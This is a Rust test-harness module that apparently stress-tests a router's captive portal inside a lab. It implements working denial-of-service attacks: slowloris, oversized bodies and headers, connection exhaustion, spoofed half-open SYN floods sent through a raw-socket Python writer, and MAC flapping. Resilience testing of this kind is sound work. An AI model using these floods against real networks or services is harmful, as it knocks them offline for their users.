//! A phone that means harm to the portal.

use std::fmt::Write as _;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::thread::JoinHandle;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpSocket;

use super::{Frame, LAN4, Lab, Phone, Process};

/// The addresses that it takes for itself, on a network of their own of the same link.
const ADDRESSES: u8 = 60;
/// Connections that it tries to hold: more than the portal has places.
const CONNECTIONS: usize = 3_000;
const PORTAL: (Ipv4Addr, u16) = (LAN4, 2050);
/// After a connection that was refused or ended, and between two pieces of what is sent slowly.
const PAUSE: Duration = Duration::from_millis(500);

/// What it does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Connections that say nothing.
    Silence,
    /// Requests whose heads come a few bytes at a time and never end.
    Slowloris,
    /// Forms of a hundred megabytes.
    Bodies,
    /// Heads of a hundred kilobytes.
    Heads,
    /// Open pages, on every connection that it gets.
    Streams,
    /// First packets of connections from addresses that do not exist: ten thousand that stay half open.
    HalfOpen,
    /// One MAC behind two ports, which move it thousands of times a second.
    TwoPorts,
}

impl Attack {
    pub const ALL: [Self; 7] = [
        Self::Silence,
        Self::Slowloris,
        Self::Bodies,
        Self::Heads,
        Self::Streams,
        Self::HalfOpen,
        Self::TwoPorts,
    ];

    /// Whether it begins connections, which can be counted.
    pub const fn connects(self) -> bool {
        !matches!(self, Self::HalfOpen | Self::TwoPorts)
    }

    pub const fn words(self) -> &'static str {
        match self {
            Self::Silence => "3000 silent connections",
            Self::Slowloris => "3000 slow requests",
            Self::Bodies => "forms of 100 MB",
            Self::Heads => "heads of 100 kB",
            Self::Streams => "3000 open pages",
            Self::HalfOpen => "10000 half-open connections",
            Self::TwoPorts => "a MAC that is at two ports",
        }
    }
}

/// Goes on until it is dropped.
pub struct Attacker {
    stop: Arc<AtomicBool>,
    /// Connections that were begun.
    begun: Arc<AtomicUsize>,
    thread: Option<JoinHandle<()>>,
    _writers: Vec<Process>,
}

impl Attacker {
    /// Gives the phone its addresses; once before its attacks. Where they need two phones, the lab's last is the other.
    pub fn equip(lab: &Lab, phone: &Phone) {
        let mut batch = String::new();
        for number in 0..ADDRESSES {
            writeln!(batch, "address add {}/24 dev eth0", own(number)).expect("a string");
        }
        phone.ip(&batch);
        lab.router.ip("address add 192.168.75.1/24 dev br-lan\n");
    }

    /// Begins.
    pub fn start(lab: &Lab, phone: &Phone, attack: Attack) -> Self {
        let (stop, begun) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicUsize::new(0)));
        if !attack.connects() {
            let writers =
                if attack == Attack::HalfOpen { vec![half_open(lab, phone)] } else { two_ports(lab, phone) };
            return Self { stop, begun, thread: None, _writers: writers };
        }
        let (stopped, count) = (Arc::clone(&stop), Arc::clone(&begun));
        let thread = phone.start(move || {
            let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build();
            runtime.expect("a runtime").block_on(async {
                for number in 0..CONNECTIONS {
                    tokio::spawn(hold(attack, number, Arc::clone(&count)));
                }
                while !stopped.load(Ordering::SeqCst) {
                    tokio::time::sleep(PAUSE).await;
                }
            });
        });
        Self { stop, begun, thread: Some(thread), _writers: Vec::new() }
    }

    /// How many connections it has begun.
    pub fn begun(&self) -> usize {
        self.begun.load(Ordering::SeqCst)
    }
}

impl Drop for Attacker {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        self.thread.take().map(JoinHandle::join);
    }
}

const fn own(number: u8) -> Ipv4Addr {
    Ipv4Addr::new(192, 168, 75, number + 2)
}

/// One connection, again whenever it ends.
async fn hold(attack: Attack, number: usize, begun: Arc<AtomicUsize>) {
    let from = own(u8::try_from(number % usize::from(ADDRESSES)).expect("few"));
    loop {
        // Whatever becomes of it, it comes again.
        let _ = try_once(attack, from, &begun).await;
        tokio::time::sleep(PAUSE).await;
    }
}

async fn try_once(attack: Attack, from: Ipv4Addr, begun: &AtomicUsize) -> std::io::Result<()> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddr::from((from, 0)))?;
    let mut stream = socket.connect(SocketAddr::from(PORTAL)).await?;
    begun.fetch_add(1, Ordering::SeqCst);
    let host = format!("Host: {LAN4}:2050\r\n");
    match attack {
        Attack::Silence | Attack::HalfOpen | Attack::TwoPorts => {}
        Attack::Slowloris => {
            stream.write_all(format!("GET / HTTP/1.1\r\n{host}").as_bytes()).await?;
            loop {
                stream.write_all(b"X: y\r\n").await?;
                tokio::time::sleep(PAUSE).await;
            }
        }
        Attack::Bodies => {
            let head = format!(
                "POST /connect HTTP/1.1\r\n{host}Origin: http://{LAN4}:2050\r\n\
                 Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000000\r\n\r\ncode="
            );
            stream.write_all(head.as_bytes()).await?;
            for _ in 0..100 {
                stream.write_all(&[b'A'; 1 << 20]).await?;
            }
        }
        Attack::Heads => {
            let head = format!("GET / HTTP/1.1\r\n{host}X-Long: {}\r\n\r\n", "a".repeat(100_000));
            stream.write_all(head.as_bytes()).await?;
        }
        Attack::Streams => {
            let request = format!(
                "GET /events HTTP/1.1\r\n{host}Referer: http://{LAN4}:2050/\r\nAccept: text/event-stream\r\n\r\n"
            );
            stream.write_all(request.as_bytes()).await?;
        }
    }
    let mut read = [0; 4096];
    while stream.read(&mut read).await? > 0 {}
    Ok(())
}

/// Writes the frames of a file out of a device, with a pause after each, all of them at most once a second.
const WRITER: &str = "
import socket, sys, time
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind((sys.argv[1], 0))
frames = [bytes.fromhex(line) for line in open(sys.argv[2])]
pause = float(sys.argv[3])
while True:
    begun = time.monotonic()
    for frame in frames:
        try:
            out.send(frame)
        except OSError:
            pass
        if pause:
            time.sleep(pause)
    time.sleep(max(0, 1 - (time.monotonic() - begun)))
";

/// The first packets of ten thousand connections, from addresses that nobody has.
fn half_open(lab: &Lab, phone: &Phone) -> Process {
    let to = (IpAddr::from(LAN4), PORTAL.1);
    let router = router_mac(lab);
    let frames = (0..10_000_u16).map(|number| {
        let [_, low] = number.to_be_bytes();
        let source = (IpAddr::from([192, 168, 75, low | 0x80]), 20_000 + number);
        Frame::tcp(&phone.mac, &router, source, to, (2, 1, 0), &[])
    });
    write_frames(lab, phone, ("half-open", Duration::ZERO), frames)
}

/// Some thousands of packets a second from each port, in turns, with the same sender.
fn two_ports(lab: &Lab, phone: &Phone) -> Vec<Process> {
    let other = lab.phones.last().expect("a phone");
    let (source, to) = ((phone.v4.into(), 5555), (LAN4.into(), 9));
    let frame = Frame::udp(&phone.mac, &router_mac(lab), source, to, &[0x66; 10]);
    let write = |from: &Phone, name| {
        write_frames(
            lab,
            from,
            (name, Duration::from_micros(100)),
            std::iter::repeat_n(frame.clone(), 10_000),
        )
    };
    vec![write(phone, "port-one"), write(other, "port-two")]
}

fn router_mac(lab: &Lab) -> String {
    let link = lab.router.run(&["ip", "-j", "link", "show", "br-lan"]).json();
    link[0]["address"].as_str().expect("a MAC").to_owned()
}

fn write_frames(
    lab: &Lab,
    phone: &Phone,
    (name, pause): (&str, Duration),
    frames: impl Iterator<Item = Frame>,
) -> Process {
    let mut lines = String::new();
    for frame in frames {
        for byte in frame.bytes() {
            write!(lines, "{byte:02x}").expect("a string");
        }
        lines.push('\n');
    }
    let file = lab.dir.path().join(name);
    std::fs::write(&file, lines).expect("the frames");
    let argv =
        ["python3", "-c", WRITER, "eth0", &file.display().to_string(), &pause.as_secs_f64().to_string()];
    phone.spawn(&argv, &lab.dir.path().join(format!("{name}.log")))
}
